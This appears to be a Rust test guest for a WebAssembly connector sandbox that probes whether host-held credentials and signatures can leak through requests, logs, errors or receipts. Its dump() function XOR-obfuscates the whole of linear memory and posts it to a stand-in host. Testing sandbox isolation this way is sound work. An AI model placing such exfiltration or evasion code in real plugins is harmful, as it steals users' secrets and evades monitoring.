//! Does what its configuration says: requests with credentials and markers, one after the other, and then carries all
//! that it got wherever a guest can put something. For whatever a connector could try.

use std::collections::BTreeMap;

use countersign_sdk::{
    Call, Connector, Failure, FailureKind, Level, Message, Receipt, ReceiptStatus, Request, accepted, connector,
    exchange, failure, log, parse_config, signing,
};

#[derive(serde::Deserialize)]
struct Config {
    program: String,
}

#[derive(serde::Deserialize)]
struct Program {
    steps: Vec<Step>,
    /// `accept`, `log`, `fail`, `receipt` or `dump`.
    then: String,
    /// What is taken out of all that it got, before that.
    #[serde(default)]
    strip: String,
}

#[derive(serde::Deserialize)]
#[serde(default)]
struct Step {
    method: String,
    url: String,
    headers: BTreeMap<String, String>,
    content_type: String,
    body: String,
    credentials: Vec<String>,
    sign: Option<(String, String)>,
    digest: Option<(String, BTreeMap<String, String>)>,
    token: Option<(String, BTreeMap<String, String>)>,
}

impl Default for Step {
    fn default() -> Self {
        Self {
            method: "POST".into(),
            url: "https://api.example.com/send".into(),
            headers: BTreeMap::new(),
            content_type: "text/plain".into(),
            body: String::new(),
            credentials: Vec::new(),
            sign: None,
            digest: None,
            token: None,
        }
    }
}

impl Step {
    fn marker(&self) -> Result<String, Failure> {
        if let Some((name, data)) = &self.sign {
            return signing::sign(name, data);
        }
        if let Some((name, values)) = &self.digest {
            return signing::digest(name, &pairs(values));
        }
        match &self.token {
            Some((name, claims)) => signing::token(name, &pairs(claims)),
            None => Ok(String::new()),
        }
    }

    fn run(&self, message: &Message) -> Result<String, Failure> {
        let marker = self.marker()?;
        let fill = |text: &str| text.replace("{marker}", &marker).replace("{text}", &message.text);
        let mut request = Request::new(&self.method, fill(&self.url)).content(&self.content_type, fill(&self.body));
        for (name, value) in &self.headers {
            request = request.header(name, fill(value));
        }
        for name in &self.credentials {
            request = request.credential(name);
        }
        let answer = exchange(request)?;
        let headers: String = answer.headers.iter().map(|h| format!("{}: {}\n", h.name, h.value)).collect();
        Ok(format!("{} {headers}{marker}{}", answer.status, String::from_utf8_lossy(&answer.body)))
    }
}

fn pairs(map: &BTreeMap<String, String>) -> Vec<(&str, &str)> {
    map.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect()
}

struct Guest;

impl Connector for Guest {
    fn send(_call: &Call, config: &str, message: &Message) -> Result<Receipt, Failure> {
        let config: Config = parse_config(config)?;
        let program: Program = parse_config(&config.program)?;
        let mut got = Vec::new();
        for step in &program.steps {
            got.push(step.run(message)?);
        }
        let all = got.join("\n");
        let all = if program.strip.is_empty() { all } else { all.replace(&program.strip, "") };
        match program.then.as_str() {
            "log" => log(Level::Info, &all),
            "fail" => return Err(failure(FailureKind::Other, all)),
            "receipt" => return Ok(accepted(ReceiptStatus::Accepted, all)),
            "dump" => dump()?,
            _ => {}
        }
        Ok(accepted(ReceiptStatus::Accepted, "done"))
    }
}

/// Send all of this instance's memory away, disguised, so that no net finds anything in it.
fn dump() -> Result<(), Failure> {
    const PIECE: usize = 512 << 10;
    let end = core::arch::wasm32::memory_size(0) * 65_536;
    let mut at = 8;
    while at < end {
        let length = PIECE.min(end - at);
        // SAFETY: all of linear memory is readable; nothing else runs while it is copied.
        let piece = unsafe { core::slice::from_raw_parts(at as *const u8, length) };
        let piece: Vec<u8> = piece.iter().map(|byte| byte ^ 0x55).collect();
        let request = Request::post("https://api.example.com/dump").header("x-from", at.to_string());
        exchange(request.content("application/octet-stream", piece))?;
        at += length;
    }
    Ok(())
}

connector!(Guest, "connector", "../../../wit");
